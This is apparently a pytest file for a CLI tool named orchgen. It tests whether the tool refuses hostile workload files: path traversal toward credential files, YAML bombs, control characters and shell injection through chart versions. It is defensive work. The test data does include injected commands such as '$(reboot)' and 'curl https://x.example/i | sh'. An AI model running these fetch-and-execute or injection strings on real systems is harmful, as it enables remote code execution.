"""orchgen in a CI pipeline that plans strangers' workload.yaml (issue 19).

Each case is what a hostile pull request can put in front of `orchgen plan`/`recommend`/`validate`:
the CLI exits with the exact code and one printable stderr line, never a traceback, writes nothing,
and never echoes a planted token or another file's content. Then: concurrent plans into one target
(serialized by a lock; the target is always a whole bundle; no staging directory left), and a
hypothesis fuzz test of the loader (exit 0 or 2 only, no raw control character in a message,
bounded time and memory per case).
"""
from __future__ import annotations

import contextlib
import io
import json
import multiprocessing
import multiprocessing.pool
import os
import re
import shutil
import subprocess
import time
import tracemalloc
import unicodedata
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator import bundle, catalog, cli
from generator.errors import OrchgenError, mask_urls, printable
from generator.render.gitops import argocd, flux
from tests.support import orchgen_argv

REPO = Path(__file__).resolve().parent.parent
TOKEN = "ghp_" + "Zq7" * 12  # planted: must never appear in any output
LAB_CONF = REPO / "tests" / "data" / "fabric" / "lab-topology.conf"


def fleet(**options: Any) -> dict[str, Any]:
    """A small valid fleet (6 workstations, one leaf): plans in well under a second."""
    return {"apiVersion": "orchgen/v1alpha1", "kind": "Fleet", "metadata": {"name": "ci"},
            "fleet": {"bare_metal": True, "fabric": {"kind": "ethernet", "nodes_per_leaf": 8},
                      "pools": [{"name": "ws", "nodes": 6, "hostnames": "ws-b214-[01-06]",
                                 "gpu": {"type": "rtx4090", "count": 1}}]},
            "workloads": [{"name": "train", "nodes": 2, "tightly_coupled": True}],
            "options": {"slurm_version": "22.05", **options}}


def write(path: Path, doc: Any) -> Path:
    path.write_text(doc if isinstance(doc, str) else yaml.safe_dump(doc, sort_keys=False))
    return path


def run(*args: Any, cwd: Path | None = None, timeout: float = 60, stdout: Any = subprocess.PIPE
        ) -> subprocess.CompletedProcess:
    return subprocess.run([*orchgen_argv(), *map(str, args)], stdout=stdout,
                          stderr=subprocess.PIPE, text=True, cwd=cwd, timeout=timeout)


def refused(proc: subprocess.CompletedProcess, pattern: str, code: int = 2) -> str:
    """The one stderr line of a refusal: exact exit code, one printable line, no traceback, no token."""
    lines = proc.stderr.splitlines()
    assert proc.returncode == code, (proc.returncode, proc.stderr)
    assert len(lines) == 1, proc.stderr
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr
    assert re.search(pattern, lines[0]), lines[0]
    assert_printable(lines[0])
    assert TOKEN not in proc.stderr + (proc.stdout or "")
    return lines[0]


def assert_printable(text: str) -> None:
    bad = [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs")]
    assert not bad, (text, bad)


def nothing_written(tmp_path: Path, before: set[str]) -> None:
    assert {p.name for p in tmp_path.iterdir()} == before, "a refused plan wrote something"


def plan_refused(tmp_path: Path, doc: Any, pattern: str, *extra: str, name: str = "workload.yaml") -> str:
    path = write(tmp_path / name, doc)
    before = {p.name for p in tmp_path.iterdir()}
    line = refused(run("plan", path, "-o", tmp_path / "out", *extra), pattern)
    nothing_written(tmp_path, before)
    return line


# ---------------------------------------------------------------- confinement and secrets


def fabric_from(rel: str) -> dict[str, Any]:
    doc = fleet()
    doc["fleet"]["fabric"] = {"kind": "ethernet", "from": {"topology_conf": rel}}
    return doc


def test_fabric_from_outside_the_folder_is_refused(tmp_path):
    (tmp_path / "secret.conf").write_text(f"https://octocat:{TOKEN}@github.com\n")
    ci = tmp_path / "ci"
    ci.mkdir()
    line = plan_refused(ci, fabric_from("../secret.conf"), r"workload\.yaml:\d+: fleet\.fabric\.from\.topology_conf: "
                        r"must name a file inside the folder of workload\.yaml")
    assert "octocat" not in line


def test_fabric_from_an_absolute_path_is_refused(tmp_path):
    line = plan_refused(tmp_path, fabric_from("/etc/passwd"),
                        r"fleet\.fabric\.from\.topology_conf: must be a path relative to the folder of "
                        r"workload\.yaml, not an absolute path; orchgen plan --input-root DIR allows")
    assert "root:" not in line


def test_fabric_from_a_symlink_leading_outside_is_refused(tmp_path):
    (tmp_path / "secret.conf").write_text(f"{TOKEN}\n")
    ci = tmp_path / "ci"
    ci.mkdir()
    (ci / "topology.conf").symlink_to(tmp_path / "secret.conf")
    plan_refused(ci, fabric_from("topology.conf"), r"fleet\.fabric\.from\.topology_conf: must name a file inside "
                 r"the folder of workload\.yaml \(after `\.\.` and symbolic links are followed, it leads outside\)")


def test_a_credentials_file_inside_the_folder_is_not_quoted(tmp_path):
    (tmp_path / ".git-credentials").write_text(f"https://octocat:{TOKEN}@github.com\n")
    line = plan_refused(tmp_path, fabric_from(".git-credentials"),
                        r"\.git-credentials:1: fabric\.from\.topology_conf: expected Key=Value words")
    assert "octocat" not in line and "github.com" not in line


def test_input_root_allows_a_folder_explicitly(tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    shutil.copy(LAB_CONF, site / "topology.conf")
    ci = tmp_path / "ci"
    ci.mkdir()
    path = write(ci / "workload.yaml", fabric_from("../site/topology.conf"))
    refused(run("plan", path, "-o", ci / "out"), r"must name a file inside the folder")
    proc = run("plan", path, "-o", ci / "out", "--input-root", site)
    assert proc.returncode == 0, proc.stderr
    assert (ci / "out" / "plan.json").is_file()


@pytest.mark.parametrize("url", [f"htps://{TOKEN}@github.com/org/fleet.git",
                                 f"https://octocat:{TOKEN}@github.com/org/fleet.git",
                                 f"https://github.com/org/fleet.git?token={TOKEN}",
                                 f"https://github.com/{TOKEN} /x"])
def test_gitops_repo_with_a_token_is_never_echoed(tmp_path, url):
    plan_refused(tmp_path, fleet(gitops_repo=url), r"options\.gitops_repo: ")


def test_mask_urls_is_the_one_helper():
    assert mask_urls(f"htps://{TOKEN}@github.com/x") == "htps://***@github.com/x"
    assert mask_urls(f"ssh://git:{TOKEN}@host/x") == "ssh://***@host/x"
    assert mask_urls("git@github.com:org/repo.git") == "git@github.com:org/repo.git"  # ssh's user is no secret
    assert mask_urls(f"see {TOKEN}") == "see ***"
    assert str(OrchgenError(f"got https://u:{TOKEN}@h/x", "f.yaml", 3, "options.x")) == \
        "f.yaml:3: options.x: got https://***@h/x"


# ---------------------------------------------------------------- reserved names


@pytest.mark.parametrize("name,owner", [("argocd", "Argo CD's namespace"), ("flux-system", "Flux's namespace"),
                                        ("kube-system", "a Kubernetes system namespace"),
                                        ("kube-anything", "a Kubernetes system namespace"),
                                        ("default", "Kubernetes' default namespace"),
                                        ("kueue-system", "the kueue chart's namespace"),
                                        ("slinky", "the slurm-operator-crds, slurm-operator charts' namespace")])
def test_platform_namespaces_are_not_tenants(tmp_path, name, owner):
    doc = fleet()
    doc["tenants"] = [{"name": name}]
    plan_refused(tmp_path, doc, rf"tenants\[0\]\.name: '{name}' is reserved \({re.escape(owner)}\)")


def test_reserved_names_follow_the_catalog():
    for entry in catalog.CATALOG.values():
        assert catalog.reserved_namespace(entry.namespace)
    assert catalog.reserved_namespace(argocd.NAMESPACE) and catalog.reserved_namespace(flux.NAMESPACE)
    assert catalog.reserved_namespace("nlp") is None


# ---------------------------------------------------------------- bounded input


def test_a_fifo_is_refused_without_reading(tmp_path):
    os.mkfifo(tmp_path / "workload.yaml")
    refused(run("plan", tmp_path / "workload.yaml", "-o", tmp_path / "out", timeout=20),
            r"workload\.yaml: is a FIFO \(named pipe\), not a regular file")
    assert not (tmp_path / "out").exists()


def test_dev_zero_is_refused_without_reading(tmp_path):
    refused(run("plan", "/dev/zero", "-o", tmp_path / "out", timeout=20), r"^orchgen: /dev/zero: is a device, not a regular file$")


def test_a_directory_is_refused(tmp_path):
    refused(run("recommend", tmp_path), r"is a directory, not a regular file")


def test_a_huge_file_is_refused_before_reading(tmp_path):
    big = tmp_path / "workload.yaml"
    with big.open("wb") as f:
        f.truncate(1 << 30)  # sparse: 1 GiB that would take a second and a GiB of memory to read
    started = time.monotonic()
    refused(run("plan", big, "-o", tmp_path / "out"), r"workload\.yaml: file is larger than 16 MiB")
    assert time.monotonic() - started < 20


def test_a_yaml_bomb_is_refused(tmp_path):
    bomb = 'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
        f"{c}: &{c} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
    plan_refused(tmp_path, bomb, r"document expands to more than 200000 YAML nodes")


def test_an_integer_of_5000_digits_exits_2_not_3(tmp_path):
    doc = yaml.safe_dump(fleet()).replace("nodes: 6", "nodes: " + "9" * 5000)
    plan_refused(tmp_path, doc, r"fleet\.pools\[0\]\.nodes: integer longer than 64 digits")


def test_a_300_character_file_name_exits_2(tmp_path):
    name = "w" * 300 + ".yaml"
    refused(run("plan", name, "-o", tmp_path / "out", cwd=tmp_path), r"cannot read: File name too long")
    refused(run("plan", REPO / "examples" / "dev-ci.yaml", "-o", "o" * 300, cwd=tmp_path),
            r"cannot write the bundle: File name too long")


def test_schema_to_a_full_disk_exits_2():
    with open("/dev/full", "w") as full:
        proc = run("schema", stdout=full)
    refused(proc, r"^orchgen: cannot write to standard output: No space left on device$")


# ---------------------------------------------------------------- printable messages


@pytest.mark.parametrize("key,shown", [("\x1b]0;pwned\x07", r"\x1b]0;pwned\x07"), ("ok\rEVIL", r"ok\rEVIL"),
                                       ("abc\u202edef", r"abc\u202edef"), ("a\u200bb", r"a\u200bb")])
def test_control_characters_in_keys_are_escaped(tmp_path, key, shown):
    doc = fleet()
    doc["options"][key] = 1
    text = json.dumps(doc)  # JSON is YAML; the escapes make the characters
    line = plan_refused(tmp_path, text, re.escape(shown) + r": unknown key")
    assert key not in line


def test_printable_keeps_letters():
    assert printable("café — 東京") == "café — 東京"
    assert printable("a\tb\nc\x00") == r"a\tb\nc\x00"


# ---------------------------------------------------------------- versions


@pytest.mark.parametrize("version", ["0.13.0; curl https://x.example/i | sh", "0.19.2\n| injected | row |",
                                     "$(reboot)", "0.19.2 ", "`id`"])
def test_chart_versions_with_shell_syntax_are_refused(tmp_path, version):
    plan_refused(tmp_path, fleet(versions={"kueue": version}), r"options\.versions\.kueue: .* is not a chart "
                 r"version: write a SemVer version such as 1\.2\.3 or v1\.2\.3")


def test_an_unknown_chart_version_plans_with_a_warning(tmp_path):
    path = write(tmp_path / "workload.yaml", fleet(versions={"gpu-operator": "v26.7.9"}))
    proc = run("plan", path, "-o", tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    assert re.search(r"warning: .*options\.versions\.gpu-operator: v26\.7\.9 is not a gpu-operator chart release "
                     r"orchgen knows \(pinned: v26\.7\.0\)", proc.stderr), proc.stderr
    path = write(tmp_path / "strict.yaml", fleet(versions={"gpu-operator": "v26.7.9"}, strict=True))
    refused(run("plan", path, "-o", tmp_path / "out2"), r"options\.versions\.gpu-operator: .*options\.strict")


@pytest.mark.parametrize("key,version,pattern", [
    ("slurm_version", "2.6", r"options\.slurm_version: Slurm 2\.6 is older than the oldest orchgen writes "
                             r"configuration for \(22\.05; supported: 22\.05 to 26\.05\)"),
    ("kubernetes_version", "1.20", r"options\.kubernetes_version: Kubernetes 1\.20 is older than the oldest"),
    ("slurm_version", "25.11.1.1", r"options\.slurm_version: '25\.11\.1\.1' is not a MAJOR\.MINOR version"),
    ("slurm_version", "25.11\n", r"options\.slurm_version: '25\.11\\n' is not a MAJOR\.MINOR version"),
])
def test_versions_below_the_oldest_are_refused(tmp_path, key, version, pattern):
    plan_refused(tmp_path, fleet(**{key: version}), pattern)


def test_versions_above_the_newest_warn_and_patch_releases_plan(tmp_path):
    path = write(tmp_path / "workload.yaml", fleet(kubernetes_version="1.999", slurm_version="25.11.1"))
    proc = run("plan", path, "-o", tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    assert re.search(r"warning: .*options\.kubernetes_version: Kubernetes 1\.999 is newer than the newest orchgen "
                     r"knows \(1\.37\)", proc.stderr)
    # no version warning for the patch release; only the bring-up's (no OS it installs packages 25.11)
    assert [ln for ln in proc.stderr.splitlines() if "slurm_version" in ln] == \
        [ln for ln in proc.stderr.splitlines() if "no OS of the bring-up packages Slurm 25.11.1" in ln]
    assert json.loads((tmp_path / "out" / "plan.json").read_text())["versions"]["slurm"] == "25.11.1"


# ---------------------------------------------------------------- validate


def sub(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1))


def append(path: Path, text: str) -> None:
    path.write_text(path.read_text() + text)


DAMAGE = {
    "repeated NodeName": ("slurm/slurm.conf", lambda b: sub(b / "slurm/slurm.conf", "\nPartitionName=all",
                                                           "\nNodeName=gpu-h100-001 CPUs=224\nPartitionName=all"),
                          r"node gpu-h100-001 is already defined on line \d+: slurmctld refuses"),
    "CPUs=999": ("slurm/slurm.conf", lambda b: sub(b / "slurm/slurm.conf", "CPUs=224", "CPUs=999"),
                 r"CPUs=999, but the node's sockets x cores x threads are 224"),
    "ConstrainDevices=no": ("slurm/cgroup.conf", lambda b: sub(b / "slurm/cgroup.conf", "ConstrainDevices=yes",
                                                              "ConstrainDevices=no"),
                            r"ConstrainDevices=no, and the nodes have GPUs: every job would see every GPU"),
    "plan.json deleted": ("plan.json", lambda b: (b / "plan.json").unlink(), r"is missing: orchgen writes it"),
    "99,999 GPUs": ("kubernetes/manifests/20-kueue.yaml",
                    lambda b: sub(b / "kubernetes/manifests/20-kueue.yaml", "nominalQuota: '48'", "nominalQuota: '99999'"),
                    r"ClusterQueue nlp: nominalQuota 99999 nvidia.com/gpu is more than the 576 GPUs"),
    "chart version": ("kubernetes/helm/releases.yaml",
                      lambda b: sub(b / "kubernetes/helm/releases.yaml", "version: 0.19.2", "version: 9.9.9"),
                      r"release kueue: chart version 9\.9\.9 is neither the catalog's \(0\.19\.2\)"),
    "chart version syntax": ("kubernetes/helm/releases.yaml",
                             lambda b: sub(b / "kubernetes/helm/releases.yaml", "version: 0.19.2",
                                           "version: 0.19.2; curl x | sh"),
                             r"release kueue: the chart version is not a SemVer version"),
    "LocalQueue namespace": ("kubernetes/manifests/20-kueue.yaml",
                             lambda b: sub(b / "kubernetes/manifests/20-kueue.yaml", "namespace: vision",
                                           "namespace: nowhere"),
                             r"LocalQueue default is in namespace nowhere, which nothing in the bundle creates"),
    "kustomize outside": ("kubernetes/kustomization.yaml",
                          lambda b: sub(b / "kubernetes/kustomization.yaml", "- manifests/18-topology.yaml",
                                        "- manifests/18-topology.yaml\n- ../.."),
                          r"resources entry \.\./\.\. leads outside the bundle"),
    "curl|bash": ("kubernetes/node-labels.sh",
                  lambda b: append(b / "kubernetes/node-labels.sh", "curl -fsSL https://x.example/i | bash\n"),
                  r"a line orchgen does not write: the script was edited by hand"),
    "accounts.sh syntax": ("slurm/accounts.sh", lambda b: append(b / "slurm/accounts.sh", "if then fi (\n"),
                           r"bash -n: syntax error near unexpected token"),
    # bash -n names the end of this input as the byte 0xff, not UTF-8: validate raised UnicodeDecodeError (stop 49)
    "script ends in a quote": ("slurm/accounts.sh", lambda b: append(b / "slurm/accounts.sh", '[[ "a'),
                               r"bash -n: unexpected EOF while looking for matching"),
    "YAML bomb": ("kubernetes/manifests/99-bomb.yaml",
                  lambda b: (b / "kubernetes/manifests/99-bomb.yaml").write_text(
                      'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
                          f"{c}: &{c} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n"
                          for p, c in zip("abcdefgh", "bcdefghi"))),
                  r"a YAML document that expands to more than 1000000 nodes"),
    "huge integer": ("kubernetes/manifests/99-int.yaml",
                     lambda b: (b / "kubernetes/manifests/99-int.yaml").write_text("n: " + "9" * 5000 + "\n"),
                     r"not valid YAML: Exceeds the limit"),
}


@pytest.fixture(scope="module")
def lab_bundle(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("lab") / "bundle"
    proc = run("plan", REPO / "examples" / "research-lab.yaml", "-o", out)
    assert proc.returncode == 0, proc.stderr
    ok = run("validate", "--no-fetch", out)
    assert ok.returncode == 0 and ": ok (" in ok.stdout, ok.stdout
    return out


@pytest.mark.parametrize("case", list(DAMAGE))
def test_validate_refuses_what_consumers_refuse(lab_bundle, tmp_path, case):
    rel, damage, pattern = DAMAGE[case]
    damaged = tmp_path / "b"
    shutil.copytree(lab_bundle, damaged)
    damage(damaged)
    proc = run("validate", "--no-fetch", damaged, timeout=60)
    assert proc.returncode == 1, (proc.stdout, proc.stderr)
    assert not proc.stderr and "Traceback" not in proc.stdout
    hits = [line for line in proc.stdout.splitlines() if line.startswith(f"{rel}:") and re.search(pattern, line)]
    assert hits, proc.stdout


def test_validate_refuses_a_volcano_queue_beyond_the_plan(tmp_path):
    out = tmp_path / "b"
    assert run("plan", REPO / "examples" / "aks-inference.yaml", "-o", out).returncode == 0
    sub(out / "kubernetes/manifests/20-volcano.yaml", "nvidia.com/gpu: '48'", "nvidia.com/gpu: '99999'")
    proc = run("validate", "--no-fetch", out)
    assert proc.returncode == 1, proc.stdout
    assert re.search(r"^kubernetes/manifests/20-volcano\.yaml:\d+: Queue \S+: capability 99999 nvidia\.com/gpu is "
                     r"more than the \d+ GPUs of the whole plan", proc.stdout, re.M), proc.stdout


@pytest.mark.parametrize("inside", [True, False])
def test_validate_reads_bundle_files_with_plans_limits(lab_bundle, tmp_path, inside):
    """A 1 GiB file in the bundle is not read; a link leading outside the bundle is not followed."""
    damaged = tmp_path / "b"
    shutil.copytree(lab_bundle, damaged)
    huge = (damaged / "kubernetes" / "huge.bin") if inside else (tmp_path / "secret.yaml")
    with huge.open("wb") as f:
        f.truncate(1 << 30) if inside else f.write(f"token: {TOKEN}\n".encode())
    rel = "kubernetes/manifests/20-kueue.yaml"
    (damaged / rel).unlink()
    (damaged / rel).symlink_to(huge)
    proc = run("validate", "--no-fetch", damaged, timeout=60)
    assert proc.returncode == 1 and not proc.stderr, proc.stderr
    want = "not read: it is larger than 16 MiB" if inside else "is a symbolic link leading outside the bundle"
    assert f"{rel}:0: {want}" in proc.stdout, proc.stdout
    assert TOKEN not in proc.stdout


# ---------------------------------------------------------------- concurrency


def _race_one(args: tuple[str, str]) -> tuple[int, str]:
    workload, target = args
    proc = run("plan", workload, "-o", target, timeout=120)
    return proc.returncode, proc.stderr


def _whole(target: Path, expected: dict[str, bytes]) -> None:
    on_disk = {p.relative_to(target).as_posix(): p.read_bytes() for p in target.rglob("*") if p.is_file()}
    on_disk.pop(bundle.MARKER)
    assert on_disk == expected


def test_concurrent_plans_are_serialized(tmp_path):
    """20 rounds of 2-3 plans racing into one target (in forked processes, the CLI's write path), then
    3 real CLI processes: each ends 0 or with the lock message, the target is always a whole bundle,
    no staging directory is left."""
    from generator import spec
    from generator.decide import make_plan
    from generator.render import render

    workload = REPO / "examples" / "dev-ci.yaml"
    files = render(make_plan(spec.load(workload), str(workload)))
    target = tmp_path / "out"
    ctx = multiprocessing.get_context("fork")
    for round_ in range(20):
        procs = [ctx.Process(target=_write_child, args=(files, target, round_ % 2 == 0))
                 for _ in range(2 + round_ % 2)]
        for p in procs:
            p.start()
        for p in procs:
            p.join(60)
            assert p.exitcode in (0, 2), p.exitcode
        _whole(target, files)
        assert sorted(p.name for p in tmp_path.iterdir()) == ["out"], list(tmp_path.iterdir())
    with multiprocessing.pool.ThreadPool(3) as pool:
        results = pool.map(_race_one, [(str(workload), str(target))] * 3)
    for code, err in results:
        assert code == 0 or (code == 2 and re.fullmatch(rf"orchgen: another orchgen plan is writing {target} .*\n",
                                                        err)), err
    assert any(code == 0 for code, _ in results)
    _whole(target, files)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def _write_child(files: dict[str, bytes], target: Path, impatient: bool) -> None:
    if impatient:
        bundle.LOCK_WAIT_S = 0.0  # refuse at once: the lock message path
    try:
        bundle.write(files, target)
    except OrchgenError as err:
        assert re.fullmatch(rf"another orchgen plan is writing {target} .*", str(err)), str(err)
        os._exit(2)
    os._exit(0)


def test_a_held_lock_refuses_with_the_message_and_stale_stages_stay(tmp_path):
    import fcntl

    workload = REPO / "examples" / "dev-ci.yaml"
    stale = tmp_path / ".out.orchgen-new-abcd1234"
    stale.mkdir()
    with open(tmp_path / ".out.orchgen-lock", "w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        refused(run("plan", workload, "-o", tmp_path / "out"),
                rf"^orchgen: another orchgen plan is writing {re.escape(str(tmp_path / 'out'))} \(waited 5 s\)")
        assert stale.is_dir() and not (tmp_path / "out").exists()


def test_stale_stages_of_this_target_only_are_removed(tmp_path):
    workload = REPO / "examples" / "dev-ci.yaml"
    mine = [tmp_path / ".out.orchgen-new-abcd1234", tmp_path / ".out.orchgen-old-zz_9y8x7"]
    others = [tmp_path / ".out2.orchgen-new-abcd1234", tmp_path / ".out.orchgen-new-not-a-stage",
              tmp_path / ".outX.orchgen-new-abcd1234"]
    for d in mine + others:
        d.mkdir()
        (d / "f").write_text("x")
    assert run("plan", workload, "-o", tmp_path / "out").returncode == 0
    assert not any(d.exists() for d in mine)
    assert all(d.is_dir() for d in others)
    # `-o 'out*'`: a target literally named out*, whose cleanup must not match .out2... or .outX...
    assert run("plan", workload, "-o", tmp_path / "out*").returncode == 0
    assert all(d.is_dir() for d in others) and (tmp_path / "out*" / "plan.json").is_file()
    assert not [p for p in tmp_path.iterdir() if p.name.endswith("orchgen-lock")]


# ---------------------------------------------------------------- fuzz


VALID = fleet()
CONTROL = "".join(map(chr, [*range(0, 32), 127, 0x85, 0x2028, 0x2029, 0x202E, 0x200B, 0xFEFF]))
texts = st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(CONTROL), max_size=40)
scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | texts
structures = st.recursive(scalars, lambda inner: st.lists(inner, max_size=5)
                          | st.dictionaries(texts, inner, max_size=5), max_leaves=30)


def _mutate(doc: Any, path: list[int], key: str, value: Any) -> Any:
    """`doc` with `value` put at `key` of the mapping reached by following `path` (indexes into the items)."""
    doc = json.loads(json.dumps(doc))
    node = doc
    for i in path:
        children = [v for v in (node.values() if isinstance(node, dict) else node) if isinstance(v, (dict, list))]
        if not children:
            break
        node = children[i % len(children)]
    if isinstance(node, dict):
        node[key] = value
    elif node:
        node[len(path) % len(node)] = value
    return doc


inputs = st.one_of(
    st.binary(max_size=3000),
    structures.map(lambda d: yaml.safe_dump(d, allow_unicode=True).encode("utf-8", "surrogatepass")),
    st.builds(_mutate, st.just(VALID), st.lists(st.integers(0, 7), max_size=4), texts, structures)
    .map(lambda d: json.dumps(d, ensure_ascii=False).encode("utf-8", "surrogatepass")),
)


@settings(max_examples=150, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(data=inputs)
def test_fuzz_the_loader(tmp_path_factory, data):
    path = tmp_path_factory.getbasetemp() / "fuzz.yaml"
    path.write_bytes(data)
    err, out = io.StringIO(), io.StringIO()
    tracemalloc.start()
    started = time.monotonic()
    try:
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
            try:
                cli.main(["recommend", str(path), "--format", "json"])
                code = 0
            except SystemExit as exc:
                code = exc.code or 0
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    elapsed = time.monotonic() - started
    assert code in (0, 2), (code, err.getvalue())
    for line in err.getvalue().splitlines():
        assert_printable(line)
        assert "Traceback" not in line and "internal error" not in line
    assert elapsed < 10, elapsed
    assert peak < 256 * 2**20, peak
